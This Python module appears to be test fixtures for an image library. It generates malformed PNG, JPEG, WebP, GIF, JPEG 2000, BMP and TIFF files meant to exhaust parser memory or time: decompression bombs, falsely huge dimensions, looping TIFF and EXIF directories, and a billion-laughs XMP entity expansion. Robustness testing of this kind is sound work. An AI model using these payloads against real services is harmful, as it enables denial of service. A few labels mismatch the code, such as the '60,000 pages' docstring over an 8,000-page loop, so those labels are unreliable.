"""Small files that ask for much memory or time: name -> a function that makes the bytes, and the extension."""

from __future__ import annotations

import io
import struct
import zlib
from collections.abc import Callable
from typing import Any

import imagecodecs
import numpy as np
import tifffile
from odd_files import chunk
from PIL import Image

HUGE = 60_000  # pixels a side
ZEROS = 300_000_000  # bytes that a compressed piece of metadata expands to


def _deflated(count: int) -> bytes:
    deflate = zlib.compressobj(9)
    piece = bytes(1 << 20)
    return b"".join(deflate.compress(piece) for _ in range(count >> 20)) + deflate.flush()


def _png(*chunks: bytes, side: int = 8, pixels: bytes | None = None) -> bytes:
    head = chunk(b"IHDR", struct.pack(">IIBBBBB", side, side, 8, 0, 0, 0, 0))
    rows = pixels if pixels is not None else zlib.compress(bytes((side + 1) * side))
    return b"\x89PNG\r\n\x1a\n" + head + b"".join(chunks) + chunk(b"IDAT", rows) + chunk(b"IEND", b"")


def _jpeg(side: int = 16, **options: Any) -> bytes:
    file = io.BytesIO()
    noise = np.random.default_rng(0).integers(0, 256, (side, side, 3), np.uint8)
    Image.fromarray(noise).save(file, "JPEG", **options)
    return file.getvalue()


def _with_segment(marker: int, data: bytes, count: int = 1) -> bytes:
    whole = _jpeg()
    return whole[:2] + count * (struct.pack(">BBH", 255, marker, len(data) + 2) + data) + whole[2:]


def _huge_jpeg(**options: Any) -> bytes:
    data = bytearray(_jpeg(**options))
    place = max(data.find(b"\xff\xc0"), data.find(b"\xff\xc2"))
    struct.pack_into(">HH", data, place + 5, HUGE, HUGE)
    return bytes(data)


def _many_scans() -> bytes:
    file = io.BytesIO()
    Image.new("RGB", (3000, 3000)).save(file, "JPEG", progressive=True)
    data = file.getvalue()
    start = data.rindex(b"\xff\xda")  # the last scan, of a few hundred bytes
    scan = data[start:-2]
    return data[:start] + 900_000 // len(scan) * scan + data[-2:]


def _tiff(compression: str, side: int, photometric: str = "minisblack") -> bytes:
    file = io.BytesIO()
    tifffile.imwrite(file, np.zeros((64, side), np.uint8), compression=compression, photometric=photometric)
    return file.getvalue()


def _tiff_stating(compression: str, side: int) -> bytes:
    """A TIFF of a few pixels that states `side` columns and rows."""
    data = bytearray(_tiff(compression, 64))
    with tifffile.TiffFile(io.BytesIO(data)) as tiff:
        places = {tag.code: tag.valueoffset for tag in tiff.pages[0].tags}  # type: ignore[union-attr]
        kinds = {tag.code: tag.dtype for tag in tiff.pages[0].tags}  # type: ignore[union-attr]
    for code in (256, 257, 278):
        struct.pack_into("<I" if kinds[code] == 4 else "<H", data, places[code], side)
    return bytes(data)


def _inflating_strip(compression: int, strip: bytes | bytearray) -> bytes:
    """A TIFF of 64 x 64 pixels whose only strip is `strip`."""
    data = bytearray(_tiff("deflate", 64))
    with tifffile.TiffFile(io.BytesIO(data)) as tiff:
        tags = tiff.pages[0].tags  # type: ignore[union-attr]
        places = {tag.code: tag.valueoffset for tag in tags}
    struct.pack_into("<H", data, places[259], compression)
    struct.pack_into("<I", data, places[273], len(data))
    struct.pack_into("<I", data, places[279], len(strip))
    if 317 in places:
        struct.pack_into("<H", data, places[317], 1)
    return bytes(data) + strip


def _looping_tiff() -> bytes:
    data = bytearray(_tiff("deflate", 64))
    (at,) = struct.unpack_from("<I", data, 4)
    (count,) = struct.unpack_from("<H", data, at)
    struct.pack_into("<I", data, at + 2 + 12 * count, at)
    return bytes(data)


def _long_chain() -> bytes:
    """A TIFF of 60,000 pages of one pixel."""
    entries = [(256, 3, 1, 1), (257, 3, 1, 1), (258, 3, 1, 8), (259, 3, 1, 1), (262, 3, 1, 1), (273, 4, 1, 8)]
    entries += [(277, 3, 1, 1), (278, 3, 1, 1), (279, 4, 1, 1)]
    body = struct.pack("<H", len(entries)) + b"".join(struct.pack("<HHII", *entry) for entry in entries)
    size = len(body) + 4
    pages = b"".join(body + struct.pack("<I", 10 + size * (k + 1)) for k in range(8_000))
    return b"II*\0" + struct.pack("<I", 10) + b"\x80\0" + pages + body + bytes(4)


def _webp_frames() -> bytes:
    frame = imagecodecs.webp_encode(np.zeros((1, 1, 3), np.uint8), lossless=True)[12:]
    one = b"ANMF" + struct.pack("<I", 16 + len(frame)) + bytes(6) + bytes(6) + b"\1\0\0\0" + frame
    head = b"VP8X" + struct.pack("<I", 10) + b"\2\0\0\0" + b"\xff\x3f\0\xff\x3f\0"  # a canvas of 16,384 x 16,384
    body = head + b"ANIM" + struct.pack("<I", 6) + bytes(6) + 10_000 * one
    return b"RIFF" + struct.pack("<I", 4 + len(body)) + b"WEBP" + body


def _gif(side: int, frames: int) -> bytes:
    frame = b"\x21\xf9\x04\0\0\0\0\0" + b"\x2c" + struct.pack("<HHHHB", 0, 0, 1, 1, 0) + b"\x02\x02\x44\x01\0"
    return (
        b"GIF89a" + struct.pack("<HHBBB", side, side, 0x80, 0, 0) + bytes(3) + b"\xff\xff\xff" + frames * frame + b";"
    )


def _apng(frames: int) -> bytes:
    control = chunk(b"fcTL", struct.pack(">IIIIIHHBB", 0, 8, 8, 0, 0, 1, 10, 0, 0))
    return _png(chunk(b"acTL", struct.pack(">II", frames, 0)), control)


def _jp2_of_tiles() -> bytes:
    data = bytearray(imagecodecs.jpeg2k_encode(np.zeros((64, 64), np.uint8), codecformat="j2k"))
    struct.pack_into(">6I", data, 8, 20_000, 20_000, 0, 0, 1, 1)
    return bytes(data)


def _exif_loop() -> bytes:
    entry = struct.pack("<HHII", 0x8769, 4, 1, 8)  # the Exif directory is the directory itself
    body = b"II*\0" + struct.pack("<IH", 8, 1) + entry + struct.pack("<I", 8)
    return _with_segment(0xE1, b"Exif\0\0" + body)


def _exif_huge() -> bytes:
    entry = struct.pack("<HHII", 0x010E, 2, 2**31, 8)
    return _with_segment(0xE1, b"Exif\0\0II*\0" + struct.pack("<IH", 8, 1) + entry + bytes(4))


def _entities() -> bytes:
    lines = "".join(f'<!ENTITY l{k + 1} "{10 * f"&l{k};"}">' for k in range(12))
    xmp = f'<!DOCTYPE x [<!ENTITY l0 "lol">{lines}]><x:xmpmeta xmlns:x="adobe:ns:meta/">&l12;</x:xmpmeta>'
    return _with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + xmp.encode())


def _deep_xmp() -> bytes:
    return _with_segment(0xE1, b"http://ns.adobe.com/xap/1.0/\0" + 15_000 * b"<a>")


def _ihdr(side: int) -> bytes:
    data = bytearray(_png())
    struct.pack_into(">II", data, 16, side, side)
    struct.pack_into(">I", data, 29, zlib.crc32(data[12:29]))
    return bytes(data)


def _bmp(width: int, height: int) -> bytes:
    head = struct.pack("<IiiHHIIiiII", 40, width, height, 1, 8, 1, 0, 0, 0, 0, 0)  # 1: run lengths
    return b"BM" + struct.pack("<IHHI", 200, 0, 0, 54 + 1024) + head + bytes(1024) + b"\xff\0\0\1"


BOMBS: dict[str, tuple[Callable[[], bytes], str]] = {
    "PNG of 3.6 gigapixels": (lambda: _ihdr(HUGE), ".png"),
    "PNG of 400 megapixels": (lambda: _ihdr(20_000), ".png"),
    "PNG whose rows expand to 300 MB": (lambda: _png(pixels=_deflated(ZEROS)), ".png"),
    "PNG with a profile of 300 MB": (lambda: _png(chunk(b"iCCP", b"p\0\0" + _deflated(ZEROS))), ".png"),
    "PNG with a text of 300 MB": (lambda: _png(chunk(b"zTXt", b"t\0\0" + _deflated(ZEROS))), ".png"),
    "PNG with an international text of 300 MB": (
        lambda: _png(chunk(b"iTXt", b"XML:com.adobe.xmp\0\1\0\0\0" + _deflated(ZEROS))),
        ".png",
    ),
    "PNG with EXIF of 300 MB in text": (
        lambda: _png(chunk(b"zTXt", b"Raw profile type exif\0\0" + _deflated(ZEROS))),
        ".png",
    ),
    "PNG of 4 billion frames": (lambda: _apng(2**32 - 1), ".png"),
    "PNG of 60,000 chunks": (lambda: _png(*60_000 * [chunk(b"tEXt", b"a\0b")]), ".png"),
    "JPEG of 3.6 gigapixels": (_huge_jpeg, ".jpg"),
    "progressive JPEG of 3.6 gigapixels": (lambda: _huge_jpeg(progressive=True), ".jpg"),
    "progressive JPEG of thousands of scans": (_many_scans, ".jpg"),
    "JPEG with EXIF that holds itself": (_exif_loop, ".jpg"),
    "JPEG with EXIF of 2 GB": (_exif_huge, ".jpg"),
    "JPEG with XMP of 10^12 entities": (_entities, ".jpg"),
    "JPEG with XMP of 15,000 levels": (_deep_xmp, ".jpg"),
    "JPEG of 15,000 comments": (lambda: _with_segment(0xFE, b"a", 15_000), ".jpg"),
    "JPEG of 15,000 profiles": (lambda: _with_segment(0xE2, b"ICC_PROFILE\0\1\1abc", 15_000), ".jpg"),
    "JPEG of 15,000 quantisation tables": (lambda: _with_segment(0xDB, bytes(1) + bytes(64), 5_000), ".jpg"),
    "WebP of 10,000 frames on a canvas of 268 megapixels": (_webp_frames, ".webp"),
    "GIF of 4 gigapixels": (lambda: _gif(65_535, 1), ".gif"),
    "GIF of 30,000 frames": (lambda: _gif(64, 30_000), ".gif"),
    "GIF of 9 megapixels and 20,000 frames": (lambda: _gif(3_000, 20_000), ".gif"),
    "JPEG 2000 of 400 million tiles": (_jp2_of_tiles, ".j2k"),
    "BMP of 1 gigapixel": (lambda: _bmp(32_000, 32_000), ".bmp"),
    "BMP of negative size": (lambda: _bmp(-5, -(2**31)), ".bmp"),
    "TIFF that is its own next page": (_looping_tiff, ".tif"),
    "TIFF of 8,000 pages": (_long_chain, ".tif"),
    "TIFF of 3.6 gigapixels": (lambda: _tiff_stating("deflate", HUGE), ".tif"),
    **{
        f"TIFF of {name} that states 49 megapixels": (lambda name=name: _tiff_stating(name, 7_000), ".tif")  # type: ignore[misc]
        for name in ("deflate", "lzw", "packbits", "zstd", "lzma", "jpeg", "jpeg2000", "png", "jpegxl", "lerc")
    },
    "TIFF whose deflate strip expands to 300 MB": (lambda: _inflating_strip(8, _deflated(ZEROS)), ".tif"),
    "TIFF whose LZW strip expands to 300 MB": (
        lambda: _inflating_strip(5, imagecodecs.lzw_encode(bytes(ZEROS))),
        ".tif",
    ),
    "TIFF whose Zstandard strip expands to 300 MB": (
        lambda: _inflating_strip(50000, imagecodecs.zstd_encode(bytes(ZEROS))),
        ".tif",
    ),
    "TIFF whose LZMA strip expands to 300 MB": (
        lambda: _inflating_strip(34925, imagecodecs.lzma_encode(bytes(ZEROS))),
        ".tif",
    ),
    "TIFF whose PackBits strip expands to 60 MB": (lambda: _inflating_strip(32773, 450_000 * b"\x81\0"), ".tif"),
    "TIFF whose PNG strip is of 3.6 gigapixels": (lambda: _inflating_strip(34933, _ihdr(HUGE)), ".tif"),
    "TIFF whose JPEG strip is of 3.6 gigapixels": (lambda: _inflating_strip(7, _huge_jpeg()), ".tif"),
    "TIFF whose WebP strip has 10,000 frames": (lambda: _inflating_strip(50001, _webp_frames()), ".tif"),
}
